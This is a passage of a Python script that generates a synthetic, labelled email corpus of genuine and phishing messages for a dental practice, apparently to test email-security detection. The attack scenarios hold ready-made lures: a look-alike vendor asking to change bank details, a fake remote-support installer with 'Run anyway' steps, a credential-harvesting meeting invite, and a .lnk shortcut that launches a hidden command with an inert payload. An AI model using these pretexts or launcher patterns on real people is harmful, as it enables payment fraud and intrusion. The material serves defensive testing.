t2.add(marcus, "Quick update: 4 of the 5 appeals were approved at the D2740 rate; one was denied because there was no pre-op x-ray on file.\n\nAlso, the patient on account "
       "10432 is disputing her balance - details in a secure message.", at(2024, 10, 22, 11, 8), G)
vp, vh = virtru_parts(marcus, "Balance dispute - account 10432", at(2024, 10, 22, 11, 12))
t2.add(marcus, vp, at(2024, 10, 22, 11, 12), GH, sig=False, quote=False, html=vh, scen=("G7", "billing specialist's real Virtru notice about a disputed patient balance"))
t2.add(me, "Thanks Marcus. I called the patient - she's fine with the balance now that I explained the downgrade. You can release her statement.", at(2024, 10, 23, 9, 30))
t2.add(marcus, "Released this morning.", at(2024, 10, 23, 10, 2), G)
t2.add(marcus, "Hi Denise,\n\nYear-end note: several Great Lakes plans renew 1/1 with a new SRP frequency limit (once per 24 months per quadrant). I'd have the front desk "
       "re-check eligibility for every January SRP appointment.", at(2024, 12, 12, 15, 44), G)
t2.add(me, "Will do - I'll tell all three front desk leads at Monday's huddle.", at(2024, 12, 12, 16, 10))
a6_start = datetime.datetime(2025, 1, 23, 11, 0, tzinfo=ET)
a6_link = f"https://teams-securemeet.example/l/meetup-join/19%3ameeting_{alnum(44)}%40thread.v2/0?context=%7b%22Tid%22%3a%22{ruuid()}%22%7d"
a6_ics = ics(f"040000008200E00074C5B7101A82E008000000{HX(32)}", "Keystone Revenue Partners - Q1 Payer Review (Secure)", a6_start, 45,
             (marcus.name, marcus.email), (me.name, me.email), "Microsoft Teams Meeting",
             "________________________________________________________________________________\nMicrosoft Teams meeting\nJoin on your computer, mobile app or room device\n"
             f"Click here to join the meeting <{a6_link}>\nSign in with your Microsoft 365 work account to enter the secure meeting room.\n"
             "________________________________________________________________________________", url=a6_link)
t2.add(marcus, "Hi Denise,\n\nFollowing up on our monthly call - we are moving the Q1 payer review to Microsoft Teams because of the new HIPAA requirements for client "
       "meetings. Please accept the attached invitation so it is on your calendar.\n\nYou will need to sign in with your Microsoft 365 work account to join the secure "
       "meeting room, please do it a few minutes early to confirm your access.\n\nBest regards,\nMarcus Webb\nA/R & Payer Follow-up Specialist | Keystone Revenue Partners",
       at(2025, 1, 15, 8, 47), HJ("account-takeover"), client="olsmtp", sig=False, quote_tz=WAT, date_tz=WAT, orig_ip=f"102.89.{R.randint(32, 47)}.{R.randint(2, 250)}",
       atts=[("Keystone_Q1_Payer_Review.ics", a6_ics, "text/calendar; method=REQUEST")], detached=True,
       scen=("A6", "billing specialist's Workspace account used through smtp.gmail.com ESMTPSA from Outlook 16 on a foreign desktop (+0100): .ics with Teams-style link on an unknown domain"))
t2.add(marcus, "Hi Denise,\n\nJanuary recap ahead of Thursday's call: Great Lakes paid 31 of the 34 January SRP claims; the 3 denials were the new 24-month frequency limit, "
       "and the patients signed the waiver, so we'll bill them. No new downgrades this month.", at(2025, 2, 18, 10, 5), G)
t2.add(me, "Thanks Marcus, talk Thursday.", at(2025, 2, 18, 10, 41))

# ================================================================ T3 lab: statement question (remake charge)
t3 = Thread("T3", lisa, "Statement question - remake charge case 24-3317")
t3.add(me, "Hi Lisa,\n\nOn the August statement there's a $265 charge for a remake on case 24-3317 (Dublin, Dr. Kim, #8 e.max crown). Dr. Kim says the remake was "
       "because the first crown came back two shades too light against the shade tab in the Rx. I thought lab-error remakes were no charge?", at(2024, 9, 4, 9, 12))
t3.add(lisa, "Hi Denise,\n\nLet me check with Greg, he did the shade on that case. I'll get back to you today.", at(2024, 9, 4, 9, 40), G)
t3.add(greg, "Denise, Greg here. I pulled the case - you're right, the Rx photo shows A1 and we pressed it in BL3. That one is on us. Lisa will credit the $265 on the "
       "September statement. Sorry about that.", at(2024, 9, 4, 13, 55), G, cc=[(lisa.name, lisa.email)])
t3.add(me, "Thank you both, much appreciated.", at(2024, 9, 5, 8, 10), to=[(greg.name, greg.email)], cc=[(lisa.name, lisa.email)])
t3.add(lisa, "Hi Denise, FYI the $265 credit for 24-3317 is on the September statement that just went out through QuickBooks.", at(2024, 10, 2, 8, 44), G)

# ================================================================ T4 lab: real bank change (letter, phone verification); G8, G9; A2 look-alike
t4 = Thread("T4", lisa, "Buckeye Dental Arts Lab - change of bank effective February 1")
letter = pdf(["BUCKEYE DENTAL ARTS LAB", "1180 Kinnear Rd, Columbus, OH 43212 | 614-555-0148", "January 10, 2025", "To our clients:",
              "Effective February 1, 2025 our operating accounts move from Short North Savings Bank to Franklin Commerce Bank.",
              "New remittance: Franklin Commerce Bank, Columbus OH", "ABA routing 044-015-318    Account 3307 7719 (Buckeye Dental Arts LLC)",
              "Statements dated 1/31/2025 and later: please pay to the new account.",
              "Please confirm by telephone with Lisa Tran at 614-555-0148 ext. 2 before updating. We never change banking by email alone.",
              "Greg Halloran, CDT - Owner"], when="20250110160500", zone="-05'00'")
t4.add(lisa, "Hi Denise,\n\nPlease see the attached letter from Greg. We are moving our business accounts to Franklin Commerce Bank effective February 1, 2025. Our January "
       "statement (dated 1/31) and everything after should be paid to the new account; anything you pay before then can still go to the old one.\n\nWe don't make banking "
       "changes by email alone, so please call me at the lab's main number you have on file (614-555-0148, ext. 2) to confirm the new details before you update anything. "
       "The letter has the routing and account numbers.\n\nThank you!", at(2025, 1, 13, 10, 5), GH,
       atts=[("BDA_Bank_Change_Letter_Jan2025.pdf", letter, "application/pdf")],
       scen=("G8", "dental lab's real bank-change letter (PDF with routing/account), asks for a phone call to the number on file"))
t4.add(me, "Hi Lisa,\n\nThanks for the heads-up. I'll call you this afternoon on the main line to confirm before I change anything in bill pay.", at(2025, 1, 13, 10, 40))
t4.add(me, "Lisa - thanks for taking my call. For our records: I called 614-555-0148 ext. 2 at 3:10 pm today and you confirmed Franklin Commerce Bank, routing ending 5318, "
       "account ending 7719, effective with the 1/31 statement. I've updated the payee in our bill pay; the December invoice payment on 1/24 still goes to the old "
       "account.", at(2025, 1, 13, 15, 22), cc=[(haddad.name, haddad.email)])
bank_alert(at(2025, 1, 13, 15, 18), "Bill Pay: payee details updated", "A payee was updated in Bill Pay.\nPayee: Buckeye Dental Arts Lab\nNew account ending: 7719\n"
           "Changed by: dkowalski\nEffective: payments scheduled on or after 02/01/2025")
t4.add(lisa, "Confirmed - thank you for calling, Greg appreciated it too. Talk soon!", at(2025, 1, 13, 15, 40), G, cc=[(haddad.name, haddad.email)])
stmt = pdf(["Buckeye Dental Arts Lab - Statement", "Scioto Family Dental Group", "Period: 01/01/2025 - 01/31/2025", "Cases 25-0012 through 25-0241",
            "Balance due: $5,318.00   Due: 02/28/2025", "Remit to: Franklin Commerce Bank, routing ending 5318, account ending 7719"], when="20250203170000", zone="-05'00'")
t4.add(lisa, "Hi Denise,\n\nAttached is the January statement (cases 25-0012 through 25-0241). It's the first one with the new remit-to at Franklin Commerce Bank, as we "
       "confirmed on the phone. Balance $5,318.00, due 2/28.", at(2025, 2, 4, 9, 12), GH, atts=[("BDA_Statement_2025-01.pdf", stmt, "application/pdf")],
       scen=("G9", "lab statement PDF with the new remit-to bank that was verified by phone three weeks earlier"))
t4.add(me, "Got it, thanks Lisa - scheduled for 2/20 to the Franklin account.", at(2025, 2, 5, 8, 30))
lisa_l = Pt("Lisa Tran", "lisa@buckeyedentalart.example", "olk", "exo:buckeyedentalart.example", lisa.sig, host="PH7PR22MB3390")
achf = pdf(["BUCKEYE DENTAL ARTS LAB - ACH VENDOR PAYMENT UPDATE", "Vendor: Buckeye Dental Arts LLC", "Bank: Franklin Commerce Bank",
            "Account name: Buckeye Dental Arts LLC - Receivables", "ABA routing: 044115607", "Account: 8830 2271 4406 (checking)",
            "Effective: immediately (replaces account ending 7719 during onboarding review)", "Authorized: Greg Halloran, Owner"],
           producer="Microsoft: Print To PDF", when="20250219071200", zone="")
t4.add(lisa_l, "Hi Denise,\n\nSorry for the extra step on this one. Franklin Commerce flagged our new operating account during their 30-day onboarding review and moved "
       "incoming ACH to a separate receivables account until the review closes, so the payment you have scheduled for 2/20 to the account ending 7719 would be "
       "returned.\n\nGreg asked me to get you the receivables account before tomorrow's run so the January statement isn't late:\n\nBank: Franklin Commerce Bank\n"
       "Account name: Buckeye Dental Arts LLC - Receivables\nRouting: 044115607\nAccount: 8830 2271 4406\n\nThe updated ACH form is attached. Could you please cancel the "
       "2/20 payment, resend it to the receivables account and reply to confirm once it's done? I'm in and out at a case consult in Dublin today, so email is the "
       "quickest way to reach me.\n\nThank you so much,", at(2025, 2, 19, 7, 26), HJ("lookalike-domain"), detached=True,
       atts=[("BDA_ACH_Vendor_Update_Form.pdf", achf, "application/pdf")],
       scen=("A2", "look-alike lab domain (own M365 tenant, same Outlook fingerprint) follows up the verified bank change with a 'receivables account' and ACH form; faithful quote"))

# ================================================================ T5 lab: shade photos (Greg); G10 Dropbox; A14 server-hijack
t5 = Thread("T5", greg, "Shade photos - case 24-4102 (Dr. Kim, #9)")
t5.add(greg, "Hi Denise,\n\nCan someone at Dublin send me better shade photos for 24-4102? The ones in the Rx were taken under the operatory light and everything looks "
       "yellow. Cross-polarized if Dr. Kim has the filter, otherwise the shade tab next to #8 in daylight works.", at(2024, 10, 16, 11, 20))
t5.add(me, "Hi Greg,\n\nBrittany will take them this afternoon when the patient is back for the temp adjustment, and upload them to the case.", at(2024, 10, 16, 11, 52))
t5.add(greg, "Got them, thanks. For the record, here are the photos I'm working from plus the try-in pictures of the pressed crown - the files were too big for email so I "
       "put them in a Dropbox Transfer:\n\nhttps://www.dropbox.com/t/" + alnum(20) + "\n\n(the link expires in 7 days). Let me know if Dr. Kim is OK with the value "
       "before we glaze.", at(2024, 10, 17, 15, 4), GH, scen=("G10", "lab owner shares try-in photos through a Dropbox Transfer link (requested photos, case context)"))
t5.add(me, "Dr. Kim looked at them - she's happy with it, go ahead and glaze.", at(2024, 10, 17, 16, 30))
t5.add(greg, "Will do, it'll be on Monday's delivery.", at(2024, 10, 18, 8, 15), G)
lnk = lnk_bytes("cmd.exe", "/c start \"\" /min conhost --headless cmd /c echo inert-probe-placeholder & type _resources\\fs25.dat", "%SystemRoot%\\System32\\imageres.dll")
t5.add(greg, "Hi Denise,\n\nPlease find attached our updated 2025 fee schedule and case pricing effective May 1. Kindly review and confirm receipt.\n\nThanks,\nGreg",
       at(2025, 4, 6, 1, 38), HJ("server-hijack"), sig=True, quote=False, detached=True,
       atts=[("BDA_2025_Fee_Schedule.zip", zipb([("BDA_2025_Fee_Schedule.lnk", lnk), ("_resources/fs25.dat", rbytes(3000))], when=(2025, 4, 5, 22, 14, 0)),
              "application/x-zip-compressed")],
       scen=("A14", "lab owner's real M365 mailbox (same headers) at Sunday 01:38: 'fee schedule' zip with a .lnk shortcut and hidden payload, no quote"))

# ================================================================ T6 Midwest: backorders (Tom); A12 server-hijack
t6 = Thread("T6", tom, "Backorder update - nitrile gloves and composite")
t6.add(tom, "Hi Denise,\n\nUpdate on the open backorders from order W7781203:\n\n- Nitrile exam gloves (M and L): manufacturer allocation, we're getting about 40% "
       "of normal. I can ship 10 cases of each now and the rest in 2-3 weeks.\n- Flowable composite A2: expected 8/30.\n\nIf the gloves are critical I can substitute "
       "the same glove from another manufacturer at the same price.", at(2024, 8, 20, 9, 5))
t6.add(me, "Hi Tom,\n\nPlease ship the 10 cases of each now and substitute for the rest - Grove City is down to 4 boxes of mediums. The composite can wait.",
       at(2024, 8, 20, 9, 33))
t6.add(tom, "Done - substitution approved, ships tomorrow UPS Ground to each office.", at(2024, 8, 20, 10, 2), G)
t6.add(tom, "FYI the A2 flowable shipped today on W7781203-02.", at(2024, 9, 3, 14, 12), G)
t6.add(me, "Hi Tom,\n\nGrove City says they never got the second glove shipment (W7812550). UPS shows delivered 11/14 but nobody signed for it. Can you check?",
       at(2024, 11, 18, 8, 50))
t6.add(tom, "Sorry about that - the UPS photo shows it was left at the back door by the dumpster enclosure. I've had customer service reship 5 cases of each at no "
       "charge; I'll file the claim with UPS on our side.", at(2024, 11, 18, 10, 27), G)
t6.add(me, "Thank you! I'll ask the landlord about a delivery sign for the back door.", at(2024, 11, 19, 8, 4))
t6.add(tom, "Good morning Denise,\n\nPlease see the attached backorder release and updated delivery schedule for your open items. The file is secured due to pricing "
       "information.\n\nPassword: MDS0311\n\nLet me know if you have any questions.\n\nThanks,", at(2025, 3, 11, 4, 52), HJ("server-hijack"), detached=True,
       atts=[("MDS_Backorder_Release_0311.zip", zip_encrypted([("MDS_Backorder_Release_Schedule.js", 9400)], when=(2025, 3, 11, 4, 40, 0)), "application/x-zip-compressed")],
       scen=("A12", "distributor rep's real M365 mailbox (same headers) at 04:52: password-protected zip with a .js, password in the text; faithful quote of a 4-month-old message"))

# ================================================================ T7 Midwest: autoclave quote; G33 rep on Outlook for iOS with a new cell number
t7 = Thread("T7", tom, "Quote - autoclave for Grove City")
t7.add(me, "Hi Tom,\n\nThe Grove City autoclave failed its spore test twice last week and the service tech says the chamber is pitted. Can you quote a replacement, "
       "something comparable to the 11-inch chamber we have now?", at(2025, 2, 10, 8, 40))
t7.add(tom, "Hi Denise,\n\nQuote attached with two options:\n\n1. 11\" chamber, same footprint as yours - $6,480 installed\n2. 11\" with built-in printer/data logger "
       "for spore and cycle records - $7,150 installed\n\nI can drop a loaner at Grove City Thursday so they're not without one.", at(2025, 2, 10, 11, 15), G,
       atts=[("MDS_Quote_Q-0219933.pdf", pdf(["Midwest Dental Supply - Quotation Q-0219933", "Customer: Scioto Family Dental Group - Grove City",
                                              "Option 1: 11in autoclave, installed  $6,480.00", "Option 2: 11in autoclave w/ data logger, installed  $7,150.00",
                                              "Valid 30 days"], when="20250210110500", zone="-06'00'"), "application/pdf")])
t7.add(me, "Let's go with option 2 - the data logger will make the state inspector happy. PO to follow from Dr. Haddad.", at(2025, 2, 11, 9, 2))
t7.add(tom, "Great - I'll get it ordered and schedule install with our tech. Note my new cell is 614-555-0177, I switched carriers and the old number goes away at the end "
       "of the month.\n\nTom\n\nGet Outlook for iOS<https://aka.ms/o0ukef>", at(2025, 2, 12, 7, 18), GH, client="olkios", sig=False,
       scen=("G33", "supply rep replies from Outlook for iOS (client change) with a new cell number"))
t7.add(me, "Got it, updated your number in our vendor list.", at(2025, 2, 12, 8, 5))
t7.add(tom, "Install is set for Tuesday 2/25 at 7:30 before patients. Our tech will take the old unit for disposal.", at(2025, 2, 20, 14, 9), G)

# ================================================================ T8 patient Lindqvist (AOL): prior x-rays; A3 account-takeover
t8 = Thread("T8", barbara, "Your prior x-rays for the crown consult")
t8.add(me, "Dear Mrs. Lindqvist,\n\nThank you for choosing Scioto Family Dental. Before your crown consultation with Dr. Haddad on September 24, we'd like your most recent "
       "full-mouth x-rays from Dr. Pruitt's office in Westerville so we don't have to retake them. Could you ask them to send them to us, or sign the attached records "
       "release and bring it in? Our fax is 614-555-0129.", at(2024, 9, 10, 14, 5),
       atts=[("SFDG_Records_Release.pdf", pdf(["Scioto Family Dental Group - Authorization to Release Dental Records", "Patient name: ____________  DOB: ________",
                                               "Release from: ______________  To: Scioto Family Dental Group, fax 614-555-0129", "Signature: ____________  Date: ______"],
                                              when="20240301101500"), "application/pdf")])
t8.add(barbara, "Hi Denise,\n\nI called Dr. Pruitt's office this morning. They said they will mail a CD to your Clintonville office this week because they don't email "
       "x-rays. Is that OK?\n\nThank you,", at(2024, 9, 11, 10, 22), G)
t8.add(me, "That's perfect, thank you! We'll call you if it hasn't arrived by the 20th.", at(2024, 9, 11, 11, 5))
t8.add(barbara, "Did the CD come? They said it went out Monday.", at(2024, 9, 20, 9, 48), G)
t8.add(me, "Yes, it arrived yesterday and Dr. Haddad has already looked at it. See you on the 24th!", at(2024, 9, 20, 11, 2))
t8.add(barbara, "Wonderful. See you then.", at(2024, 9, 20, 12, 30), G)
rec_last = dict(t8.last)
t8.add(barbara, "Hello Denise,\n\nHere are the x-ray images you asked for. The file was too large to attach so I uploaded it to a secure viewer:\n\n"
       "https://radiograph-share.example/v/BL-0121-xray?r=" + hx(6) + "\n\nPlease review and let me know.\n\nBarbara", at(2025, 1, 21, 3, 47), HJ("account-takeover"),
       client="aolsmtp", infra="aol-ir2", sig=False, quote_tz=WAT, date_tz=WAT, detached=True,
       quote_rec=dict(t=datetime.datetime(2024, 9, 20, 11, 2, 0, tzinfo=ET), name=me.name, email=me.email, plain="Yes, it arrived yesterday and Dr. Haddad has already looked at it.",
                      subj="", to=[], cc=[]),
       scen=("A3", "patient's AOL account via Yahoo SMTP (Hermes ESMTPA, ir2, tool Message-ID, no AOL X-Mailer, '>' quote of one line): x-ray images link on an unknown domain, 4 months later"))

# ================================================================ T9 patient Petrakis (Yahoo Android): implant estimate; G11 revived after 5 months
t9 = Thread("T9", ron, "Treatment estimate - implant #19")
t9.add(me, "Hi Mr. Petrakis,\n\nAs promised, here is the written estimate for the implant at #19:\n\nImplant placement (D6010): $2,150\nAbutment (D6057): $700\n"
       "Crown (D6065): $1,800\nTotal: $4,650\nGreat Lakes estimated payment: $1,500 (your remaining annual maximum for 2024)\nYour estimated portion: $3,150\n\n"
       "We also offer CareCredit with 12 months no interest. Let me know when you'd like to schedule the surgical consult.", at(2024, 9, 12, 15, 10),
       atts=[("Estimate_Petrakis_Implant19.pdf", pdf(["Scioto Family Dental Group - Treatment Estimate", "Patient: Ronald Petrakis", "D6010 implant #19  $2,150.00",
                                                      "D6057 abutment  $700.00", "D6065 crown  $1,800.00", "Estimated insurance: $1,500.00", "Estimated patient portion: $3,150.00"],
                                                     producer="OpenChair PM 24.3 (PDFsharp)", when="20240912150500", zone="-04'00'"), "application/pdf")])
t9.add(ron, "Thanks Denise. Need to talk to my wife. Also my insurance max resets in Jan so maybe better to wait?", at(2024, 9, 14, 21, 10), G)
t9.add(me, "That's a good thought - if we start in January you'd have a fresh $1,500 annual maximum, and since the crown is usually placed a few months after the implant, "
       "part of it may fall into the next plan year. Just call or email us whenever you're ready.", at(2024, 9, 16, 8, 35))
t9.add(ron, "Hi Denise happy new year. Insurance renewed, we want to go ahead. Is the estimate still good or do I need a new one? Can I do a Saturday?",
       at(2025, 2, 22, 20, 33), GH, scen=("G11", "patient revives the estimate thread after 5 months from Yahoo Mail Android on a Saturday evening"))
t9.add(me, "Hi Ron,\n\nHappy new year! Our fees haven't changed, so the estimate stands, and your 2025 maximum is fresh. We don't have Saturday hours, but Dr. Haddad does "
       "early 7:00 am surgical consults on Tuesdays at Clintonville. Would March 11 at 7:00 work?", at(2025, 2, 24, 8, 50))
t9.add(ron, "Mar 11 7am works. Thank you", at(2025, 2, 24, 12, 14), G)

# ================================================================ T10 patient Doyle (Comcast): refund by Zelle; G12 wife's phone instead
t10 = Thread("T10", kevin, "Refund of your credit balance ($86.40)")
t10.add(me, "Hi Mr. Doyle,\n\nAfter your insurance paid on your September 9 visit, your account has a credit of $86.40. We can mail you a check or send it by Zelle - "
        "whichever you prefer.", at(2024, 10, 14, 10, 2))
t10.add(kevin, "Hi Denise,\n\nZelle is easier. You can use this email address, it's what my Zelle is under.", at(2024, 10, 14, 12, 41), G)
t10.add(me, "Will do, I'll send it tomorrow morning.", at(2024, 10, 14, 13, 5))
t10.add(kevin, "Actually, sorry - can you send it to my wife Angela's Zelle instead? It's her cell, 614-555-0102. Mine is tied to our old bank account that we closed "
        "last month. Thanks!", at(2024, 10, 15, 20, 48), GH, scen=("G12", "patient asks to send the Zelle refund to his wife's phone instead (payment destination change, verified by phone)"))
t10.add(me, "Hi Kevin,\n\nNo problem. For security I called you this morning at the number on your patient file to double-check (thanks for picking up). I sent $86.40 "
        "by Zelle to Angela Doyle at 614-555-0102 - it should show up shortly.", at(2024, 10, 16, 9, 41))
bank_alert(at(2024, 10, 16, 9, 38), "You sent $86.40 with Zelle", "You sent money with Zelle.\nAmount: $86.40\nTo: Angela Doyle (mobile ending 0102)\n"
           "Memo: Scioto Family Dental refund\nConfirmation: OVB" + HX(8))
t10.add(kevin, "Got it, thanks Denise!", at(2024, 10, 16, 12, 3), G)

# ================================================================ T11 [Ticket T20241015.0032] Dublin scanner (Denise opened it); G13 ScreenConnect link, G14 survey
TK1 = "T20241015.0032"
t11 = Thread("T11", oit, "Dublin front desk scanner not sending to email")
t11.add(me, "Hi,\n\nThe Brother scanner at the Dublin front desk stopped sending scans to email yesterday afternoon - the display says 'Authentication error'. Nothing "
        "changed on our side. Brittany Shaw is the contact at Dublin (614-555-0140).\n\nThanks", at(2024, 10, 15, 8, 12), to=OIT_TO, cc=[(brittany.name, brittany.email)])
psa_notice(at(2024, 10, 15, 8, 13), TK1, f"Ticket #{TK1} created: Dublin front desk scanner not sending to email",
           f"Hello Denise,\n\nThank you for contacting Olentangy IT Solutions. Your request has been logged as ticket #{TK1} and assigned to the service desk. A "
           "technician will respond within your contract's response time (2 business hours for P3).", "New", refs=list(t11.refs))
t11.add(Pt("Jake Ferris (Olentangy IT)", "support@olentangyit.example", "psa", "sg-oit"),
        "Hi Denise,\n\nThanks for the details. Microsoft turned off basic authentication for SMTP on your tenant on 10/14 (we sent the notice in September), which is why "
        "the scanner's stored password stopped working. I'll move it to the SMTP relay connector we set up for the other two offices.\n\nI need a few minutes on the "
        f"Dublin front desk PC to reach the scanner's web page. When Brittany is ready, she can open this link and click Join:\nhttps://help.olentangyit.example/Join?Session={TK1}"
        f"&h=help.olentangyit.example&p=443&k={alnum(40)}\n\nIt downloads our ScreenConnect client (signed 'Olentangy IT Solutions LLC'); the session ends on its own "
        "when I disconnect.\n\nJake Ferris\nOlentangy IT Solutions" + PSA_FOOT.format(tk=TK1, st="In Progress", pr="P3 - Normal"),
        at(2024, 10, 15, 9, 5), GH, sig=False, quote=False, subj=f"Ticket #{TK1} - Dublin front desk scanner not sending to email", extra=psa_extra(TK1),
        scen=("G13", "MSP technician sends the ScreenConnect join link (MSP's own domain) in the ticket Denise opened"))
t11.add(me, "Thanks Jake - Brittany is ready now and will click the link.", at(2024, 10, 15, 9, 20), to=OIT_TO, cc=[(brittany.name, brittany.email)])
t11.add(Pt("Jake Ferris (Olentangy IT)", "support@olentangyit.example", "psa", "sg-oit"),
        "All set - the scanner now sends through the relay connector and Brittany tested a scan to her own mailbox. I'll close the ticket tomorrow if nothing else comes "
        "up.\n\nJake Ferris\nOlentangy IT Solutions" + PSA_FOOT.format(tk=TK1, st="Waiting Customer", pr="P3 - Normal"), at(2024, 10, 15, 11, 2), G, sig=False, quote=False,
        subj=f"Ticket #{TK1} - Dublin front desk scanner not sending to email", extra=psa_extra(TK1))
psa_notice(at(2024, 10, 16, 16, 30), TK1, f"Ticket #{TK1} completed: Dublin front desk scanner not sending to email",
           f"Hello Denise,\n\nTicket #{TK1} has been completed.\n\nResolution: scanner moved from SMTP AUTH to the Exchange Online relay connector; test scans delivered.\n\n"
           f"How did we do? Rate this ticket (one click): https://portal.olentangyit.example/survey?t={TK1}&k={alnum(24)}", "Complete",
           label=GH, scen=("G14", "MSP ticket-system 'completed' notification with a survey link (no reply headers)"))

# ================================================================ T12 [Ticket T20250203.0017] Grove City backup; G15 zipped reports; A4 display-name spoof
TK2 = "T20250203.0017"
jake = Pt("Jake Ferris (Olentangy IT)", "support@olentangyit.example", "psa", "sg-oit")
t12 = Thread("T12", jake, f"Ticket #{TK2} - Backup job failed - GC-SRV01 (Grove City)")
psa_notice(at(2025, 2, 3, 6, 2), TK2, f"Ticket #{TK2} created: Backup job failed - GC-SRV01 (Grove City)",
           f"Hello Denise,\n\nTicket #{TK2} was created from a monitoring alert for your organization.\n\nAlert: Image backup job 'GC-SRV01 nightly' failed (2 consecutive runs)\n"
           "Device: GC-SRV01 (Grove City)\nAssigned to: Jake Ferris", "New", pr="P2 - High")
t12.add(jake, "Hi Denise,\n\nHeads-up: the nightly image backup of the Grove City server (GC-SRV01) failed Saturday and Sunday night because the backup target - the NAS in "
        "the Grove City server closet - ran out of space. I've pruned old restore points and started a manual backup; I'll confirm tomorrow once tonight's job succeeds. "
        "No action needed on your side.\n\nJake Ferris\nOlentangy IT Solutions" + PSA_FOOT.format(tk=TK2, st="In Progress", pr="P2 - High"),
        at(2025, 2, 3, 10, 40), sig=False, quote=False, extra=psa_extra(TK2))
t12.add(me, "Thanks Jake. While you're in there - our HIPAA risk assessment is due in March and the auditor wants the backup success reports for Q4 for all three offices. "
        "Can you send those?", at(2025, 2, 3, 11, 10), to=OIT_TO)
t12.add(jake, "Morning Denise - last night's backup completed fine, so the job is healthy again.\n\nThe Q4 backup reports your auditor asked for are attached as one zip: "
        "a PDF per office (Clintonville, Dublin, Grove City) with every nightly job from 10/1 to 12/31.\n\nJake Ferris\nOlentangy IT Solutions"
        + PSA_FOOT.format(tk=TK2, st="Waiting Customer", pr="P2 - High"), at(2025, 2, 4, 9, 15), GH, sig=False, quote=False, extra=psa_extra(TK2), subj=t12.subj,
        atts=[("SFDG_Backup_Reports_Q4-2024.zip", zipb([(f"Backup_Report_{loc}_2024Q4.pdf", pdf([f"Olentangy IT Solutions - Backup job report: {loc}",
                                                                                                 "Period 10/01/2024 - 12/31/2024", "Jobs: 92  Succeeded: 92  Failed: 0"],
                                                                                                producer="OIT Reporting 3.2", when="20250204090500"))
                                                         for loc in ("Clintonville", "Dublin", "GroveCity")], when=(2025, 2, 4, 9, 5, 0)), "application/zip")],
        scen=("G15", "MSP sends the zipped Q4 backup reports Denise asked for the day before"))
t12.add(me, "Perfect, thank you!", at(2025, 2, 4, 9, 40), to=OIT_TO)
spoof_oit = Pt("Olentangy IT Service Desk", "oit.servicedesk@outlook.com", "outlookcom", "outlookcom")
t12.add(spoof_oit, "Hi Denise,\n\nJake is out today so I'm following up on this ticket. The backup failure traced back to an outdated remote support agent on the Grove "
        "City front desk workstations, which blocks the backup service from verifying them.\n\nPlease have each Grove City front desk PC run the updated agent below (it "
        "installs silently, about 1 minute), then leave the PCs logged in so we can finish remotely:\n\nhttps://oitsupport-relay.screenconnect.com/Bin/ScreenConnect.ClientSetup.msi"
        "?e=Access&y=Guest\n\nIf Windows shows a warning, click More info > Run anyway.\n\nThank you,\nOlentangy IT Service Desk\n614-555-0150", at(2025, 2, 5, 14, 22),
        HJ("display-name-spoof"), sig=False, detached=True,
        scen=("A4", "'Olentangy IT Service Desk' from an outlook.com address quoting the real ticket: install an 'updated agent' ScreenConnect .msi from a *.screenconnect.com instance"))
psa_notice(at(2025, 2, 6, 17, 5), TK2, f"Ticket #{TK2} completed: Backup job failed - GC-SRV01 (Grove City)",
           f"Hello Denise,\n\nTicket #{TK2} has been completed.\n\nResolution: pruned restore points on GC-NAS01, raised retention alert threshold to 80%, 3 successful nightly "
           f"jobs confirmed.\n\nHow did we do? Rate this ticket (one click): https://portal.olentangyit.example/survey?t={TK2}&k={alnum(24)}", "Complete", pr="P2 - High")

# ================================================================ T13 MSP MFA rollout (Nora, Outlook); G16
t13 = Thread("T13", nora, "Microsoft 365 MFA rollout - Scioto Family Dental")
guide = pdf(["Scioto Family Dental Group - Setting up multi-factor authentication", "1. Install Microsoft Authenticator (App Store / Google Play)",
             "2. On your work PC open https://aka.ms/mysecurityinfo and choose Add sign-in method > Authenticator app", "3. Scan the QR code with the app and approve the test",
             "Olentangy IT will never ask you to read a code to us or approve a sign-in you did not start.", "Questions: 614-555-0150"],
            uris=["https://aka.ms/mysecurityinfo"], when="20250218084000")
t13.add(nora, "Hi Denise,\n\nAs discussed at the quarterly review, we'll require multi-factor authentication for all Scioto Family Dental Microsoft 365 accounts starting "
        "Monday, March 3. The attached one-page guide is for staff. Each person should:\n\n1. Install Microsoft Authenticator (https://aka.ms/authapp)\n2. From their work PC, "
        "go to https://aka.ms/mysecurityinfo and add the app\n3. Approve the test notification\n\nThe shared front-desk mailboxes will use the front-desk phones, which we'll "
        "register on site. We will never ask anyone to read us a code or approve a sign-in they didn't start. I'll be at Clintonville on 2/27 from 8 to 10 to help anyone "
        "who gets stuck.", at(2025, 2, 18, 8, 52), GH, atts=[("SFDG_MFA_Staff_Guide.pdf", guide, "application/pdf")],
        scen=("G16", "MSP project engineer's MFA rollout mail with aka.ms links and a PDF guide (lure words, genuine)"))
t13.add(me, "Thanks Nora. Can the hygienists who only use Outlook on the web at the operatory PCs use text messages instead of the app? A few of them don't want work apps "
        "on their personal phones.", at(2025, 2, 18, 10, 3))
t13.add(nora, "Yes - we can allow SMS for those users, or give them a FIDO security key ($25 each) that stays on their badge lanyard. Send me the names and I'll set it up.",
        at(2025, 2, 19, 9, 14), G)
t13.add(me, "Keys please, for Kayla Nguyen and two others at Grove City - I'll send the names Monday.", at(2025, 2, 19, 9, 30))
t13.add(nora, "Keys are ordered, I'll bring them on the 27th.", at(2025, 2, 24, 13, 2), G)

# ================================================================ T14 OpenChair support (Zendesk) - claims export; G17 hotfix link
t14 = Thread("T14", ocz, "Claims batch won't export to ClaimBridge")
e1 = "Since the 24.3 update on Sunday, the nightly claims batch from OpenChair to ClaimBridge fails with 'Export error 0x3F - payer ID map'. Our billing company says nothing " \
     "has reached ClaimBridge since Saturday. Customer # OC-20417."
t14.add(me, "Hi,\n\n" + e1, at(2024, 10, 1, 15, 40), to=[("OpenChair Support", "support@openchairsoftware.example")])
zd_subj = "[OpenChair Support] Re: Claims batch won't export to ClaimBridge"
t14.add(ocz, f"Hello Denise,\n\nYour request (48213) has been received and is being reviewed by our support staff.\n\nTo add additional comments, reply to this email.\n\n"
        "--------------------------------\nThis email is a service from OpenChair Support.", at(2024, 10, 1, 13, 41, MT), sig=False, quote=False,
        subj="[OpenChair Support] Request received: Claims batch won't export to ClaimBridge", extra=[("X-Zendesk-From-Account-Id", "4f1c2a3"), ("Auto-Submitted", "auto-replied")])
k1 = "Hi Denise,\n\nThanks for the details. Could you send us the export logs? On the server: C:\\OpenChair\\Logs\\ClaimExport_*.log (the last three days). Zip them and " \
     "reply to this email.\n\nKelsey Park\nOpenChair Support"
